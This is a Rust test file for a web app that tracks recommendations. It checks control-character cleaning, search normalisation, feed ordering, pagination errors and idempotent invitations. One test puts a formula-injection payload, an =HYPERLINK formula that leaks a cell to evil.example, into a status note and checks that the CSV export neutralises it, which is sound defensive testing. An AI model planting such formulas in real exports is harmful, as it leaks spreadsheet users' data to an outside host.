//! Real-world text, times and clients: what outside testing broke, each as its input.

use app::accounts::Role;

use crate::{
    helpers::{spawn_app, TestApp},
    staff::change_status,
};

async fn bytes(app: &TestApp, path: &str) -> Vec<u8> {
    reqwest::get(format!("{}{path}", app.address))
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .to_vec()
}

#[tokio::test]
async fn pasted_control_characters_never_break_a_feed_or_a_page() {
    let app = spawn_app().await;
    let (editor, _) = app.signed_in(Role::Editor).await;
    // Word's manual line break (U+000B) and a right-to-left override in a status note.
    change_status(
        &app,
        &editor,
        "SH-2",
        "First line\u{000B}second line \u{202E}reversed\u{202C} end",
    )
    .await;
    let stored: String = sqlx::query_scalar(
        "SELECT note FROM status_changes s JOIN recommendations r ON r.id = s.recommendation_id
         WHERE r.reference = 'SH-2' ORDER BY s.seq DESC LIMIT 1",
    )
    .fetch_one(app.db.pool())
    .await
    .unwrap();
    assert_eq!(stored, "First line\nsecond line reversed end");

    // Text stored before this rule (the history is append-only) still gives good output.
    sqlx::query(
        "INSERT INTO status_changes (recommendation_id, seq, changed_on, from_status, to_status, note, team, recorded_at)
         SELECT r.id, 99, '2026-11-01', r.status_key, r.status_key, 'Old\u{000B}note\u{0007}', 'PPIE Team', '2026-11-01T00:00:00Z'
         FROM recommendations r WHERE r.reference = 'SH-3'",
    )
    .execute(app.db.pool())
    .await
    .unwrap();
    for feed in [
        "/actions/feed.atom",
        "/actions/SH-3/feed.atom",
        "/actions/SH-2/feed.atom",
    ] {
        let body = bytes(&app, feed).await;
        assert!(
            feed_rs::parser::parse(body.as_slice()).is_ok(),
            "{feed} is well-formed XML"
        );
        assert!(!body.contains(&0x0B));
    }
    let page = bytes(&app, "/actions/SH-3").await;
    assert!(
        !page.contains(&0x0B) && !page.contains(&0x07),
        "no forbidden code point in HTML"
    );
    let json: serde_json::Value =
        reqwest::get(format!("{}/api/v1/recommendations/SH-3", app.address))
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
    assert!(json["history"].is_array(), "JSON stays parseable");
}

#[tokio::test]
async fn a_name_or_text_must_have_something_visible() {
    let app = spawn_app().await;
    let (friend, _) = app.signed_in(Role::CriticalFriend).await;
    let refused = friend
        .post(
            "/account/name",
            &[("display_name", "\u{200B}\u{200B}\u{200B}")],
        )
        .await;
    assert_eq!(refused.status, 422);
    assert_eq!(refused.field_errors().len(), 1);
    let (editor, _) = app.signed_in(Role::Editor).await;
    let report = editor
        .post(
            "/admin/reports/new",
            &[
                ("title", "\u{FEFF}\u{200B} "),
                ("kind", "briefing"),
                ("date-day", "20"),
                ("date-month", "11"),
                ("date-year", "2026"),
                ("summary", "A summary."),
                ("body", "Words."),
                ("version", "0"),
                ("action", "save"),
            ],
        )
        .await;
    assert_eq!(report.status, 422, "an invisible title is no title");
}

#[tokio::test]
async fn csv_cells_that_would_run_as_formulas_are_text_and_the_round_trip_changes_nothing() {
    let app = spawn_app().await;
    let (editor, _) = app.signed_in(Role::Editor).await;
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")";
    change_status(&app, &editor, "SH-4", formula).await;
    let raw = bytes(&app, "/actions.csv").await;
    assert!(
        raw.starts_with(&[0xEF, 0xBB, 0xBF]),
        "a byte-order mark for Excel"
    );
    let text = String::from_utf8(raw).unwrap();
    assert!(
        text.contains("'=HYPERLINK("),
        "the formula is written as text"
    );
    assert!(!text.contains(",\"=HYPERLINK(") && !text.contains(",=HYPERLINK("));

    // Importing the file as exported changes nothing, with or without the mark.
    let report = server::open_data::csv::import_csv(&app.db, &text, "2026-11-30")
        .await
        .unwrap();
    assert_eq!(report.updated, 0, "{report}");
    let without_mark = text.trim_start_matches('\u{FEFF}');
    let report = server::open_data::csv::import_csv(&app.db, without_mark, "2026-11-30")
        .await
        .unwrap();
    assert_eq!(report.updated, 0, "{report}");
    let audit = {
        let (admin, _) = app.signed_in(Role::Admin).await;
        admin.get("/admin/audit.csv").await
    };
    assert_eq!(audit.status, 200);
}

/// `/api/v1/search?q=…` as JSON.
async fn search(app: &TestApp, q: &str) -> serde_json::Value {
    reqwest::get(format!(
        "{}/api/v1/search?q={}",
        app.address,
        app::paths::encode_component(q)
    ))
    .await
    .unwrap()
    .json()
    .await
    .unwrap()
}

async fn total(app: &TestApp, q: &str) -> i64 {
    search(app, q).await["total"].as_i64().unwrap()
}

async fn first_url(app: &TestApp, q: &str) -> String {
    search(app, q).await["hits"][0]["url"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

#[tokio::test]
async fn search_finds_what_people_type() {
    let app = spawn_app().await;
    let curly = total(&app, "wessex’s").await;
    assert!(curly > 0);
    assert_eq!(total(&app, "wessex's").await, curly, "a typed apostrophe");
    assert!(
        total(&app, "commercila").await > 0,
        "two letters swapped is one typo"
    );
    for typed in ["PP17", "pp 17", "pp-17", "PP-17"] {
        assert!(
            first_url(&app, typed).await.ends_with("/actions/PP-17"),
            "{typed}"
        );
    }
    // A long query is cut between words, not inside one.
    let long = "data access ".repeat(30);
    let page = app
        .get(&format!(
            "/search?q={}",
            app::paths::encode_component(&long)
        ))
        .await;
    assert!(page.body.contains("data-test=\"search-shortened\""));
    assert!(total(&app, &long).await >= total(&app, "data access").await);
    // Any way of writing a reference leads to its one address.
    let moved = app.browser().get("/actions/pp-17").await;
    assert_eq!(moved.status, 308, "permanent");
    assert_eq!(moved.location, "/actions/PP-17");
    assert_eq!(
        app.browser().get("/actions/PP17").await.location,
        "/actions/PP-17"
    );
}

#[tokio::test]
async fn the_reports_feed_dates_each_report_by_itself_newest_first() {
    let app = spawn_app().await;
    let feed = feed_rs::parser::parse(bytes(&app, "/reports/feed.atom").await.as_slice()).unwrap();
    let updated: Vec<_> = feed.entries.iter().map(|e| e.updated.unwrap()).collect();
    assert!(updated.len() > 1);
    let mut sorted = updated.clone();
    sorted.sort_by(|a, b| b.cmp(a));
    assert_eq!(updated, sorted, "newest first");
    let today = chrono::Utc::now().date_naive();
    assert!(
        updated.iter().all(|at| at.date_naive() != today),
        "no entry carries the import time: {updated:?}"
    );
}

#[tokio::test]
async fn a_page_past_the_end_says_so_and_links_the_last() {
    let app = spawn_app().await;
    let page = app.get("/actions?page=99").await;
    assert_eq!(page.status, 404);
    assert!(page.body.contains("There is no page 99"));
    assert!(page.body.contains("data-test=\"past-the-end\""));
    assert!(!page.body.contains("Showing 1961"));
    let search = app.get("/search?q=data&page=99").await;
    assert_eq!(search.status, 404);
    assert!(search.body.contains("There is no page 99"));
}

#[tokio::test]
async fn errors_are_announced_and_explained() {
    let app = spawn_app().await;
    let refused = app
        .browser()
        .post("/sign-in", &[("email", ""), ("password", "")])
        .await;
    assert!(
        refused.body.contains("<title>Error: Sign in"),
        "the title says there is an error"
    );
    let bad = app.get("/actions?status=sideways").await;
    assert_eq!(bad.status, 400);
    assert!(
        !bad.body.contains("Try again later"),
        "trying later would not help"
    );
}

#[tokio::test]
async fn links_to_other_websites_say_so_however_they_are_written() {
    let app = spawn_app().await;
    let (editor, _) = app.signed_in(Role::Editor).await;
    let saved = editor
        .post(
            "/admin/reports/new",
            &[
                ("title", "Links report"),
                ("kind", "briefing"),
                ("date-day", "20"),
                ("date-month", "11"),
                ("date-year", "2026"),
                ("summary", "Links written every way."),
                (
                    "body",
                    "See [one](HTTPS://example.org/a), [two](//example.org/b) and [ours](/actions).",
                ),
                ("version", "0"),
                ("action", "publish"),
                ("confirmed", "yes"),
            ],
        )
        .await;
    assert_eq!(saved.status, 303, "{:?}", saved.field_errors());
    let page = app.get("/reports/links-report").await.body;
    assert_eq!(page.matches("(another website)").count(), 2, "{page}");
}

fn hidden(body: &str, field: &str) -> String {
    let marker = format!("name=\"{field}\" value=\"");
    let start = body.find(&marker).expect("the form carries the field") + marker.len();
    body[start..].split('"').next().unwrap().to_owned()
}

#[tokio::test]
async fn an_invitation_sent_twice_is_one_invitation_and_one_email() {
    let app = spawn_app().await;
    let (admin, _) = app.signed_in(Role::Admin).await;
    let page = admin.get("/admin/users").await.body;
    let key = hidden(&page, "idempotency_key");
    let form = [
        ("email", "twice@example.org"),
        ("role", "critical_friend"),
        ("idempotency_key", key.as_str()),
    ];
    let first = admin.post("/admin/users/invite", &form).await;
    assert_eq!(first.status, 200);
    assert!(first.body.contains("/invite/"), "the first shows its link");
    let message = &first.body[first
        .body
        .find("id=\"link-message\"")
        .expect("a message to send")..];
    assert!(message.contains("To set up your account, open this link: http"));
    // Every time limit the pages state is the one the links keep.
    let days = app::accounts::INVITE_DAYS;
    assert!(message.contains(&format!("The link works once, for {days} days.")));
    assert!(page.contains(&format!(
        "The link works once and expires after {days} days."
    )));
    assert_ne!(
        hidden(&first.body, "idempotency_key"),
        key,
        "the page shown after it worked carries a new key"
    );
    assert!(
        !first.body.contains("value=\"twice@example.org\""),
        "and an empty form"
    );
    let second = admin.post("/admin/users/invite", &form).await;
    assert_eq!(second.status, 303);
    assert!(
        second.location.contains("done=invite-already-sent"),
        "{}",
        second.location
    );
    assert_eq!(
        app.scalar_i64("SELECT COUNT(*) FROM account_links WHERE email = 'twice@example.org'")
            .await,
        1
    );
    assert_eq!(
        app.scalar_i64("SELECT COUNT(*) FROM outbox WHERE recipient = 'twice@example.org'")
            .await,
        1,
        "one email, whose link still works"
    );
    // "New link" and "Reset link" pressed twice: one new link each, one email each.
    let page = admin.get("/admin/users").await.body;
    let id = app
        .scalar_i64("SELECT id FROM account_links WHERE email = 'twice@example.org'")
        .await;
    let resend = format!("/admin/invites/{id}/resend");
    let key = hidden(&page[page.find(&resend).unwrap()..], "idempotency_key");
    for expected in [200, 303] {
        let reply = admin
            .post(&resend, &[("idempotency_key", key.as_str())])
            .await;
        assert_eq!(reply.status, expected);
    }
    assert_eq!(
        app.scalar_i64("SELECT COUNT(*) FROM outbox WHERE recipient = 'twice@example.org'")
            .await,
        2
    );
    let (_, friend) = app.signed_in(Role::CriticalFriend).await;
    let friend_id = friend.id;
    let page = admin.get("/admin/users").await.body;
    let reset = format!("/admin/users/{friend_id}/reset-link");
    let key = hidden(&page[page.find(&reset).unwrap()..], "idempotency_key");
    let first = admin
        .post(&reset, &[("idempotency_key", key.as_str())])
        .await;
    assert_eq!(first.status, 200);
    let again = admin
        .post(&reset, &[("idempotency_key", key.as_str())])
        .await;
    assert!(again.location.contains("done=reset-already-sent"));
    assert_eq!(
        app.scalar_i64(&format!(
            "SELECT COUNT(*) FROM account_links WHERE purpose = 'reset' AND user_id = {friend_id}"
        ))
        .await,
        1
    );

    // A mistake keeps the chosen role.
    let refused = admin
        .post(
            "/admin/users/invite",
            &[("email", "not an address"), ("role", "editor")],
        )
        .await;
    assert_eq!(refused.status, 422);
    assert!(
        refused.body.contains("value=\"editor\" selected"),
        "the role is kept"
    );
}
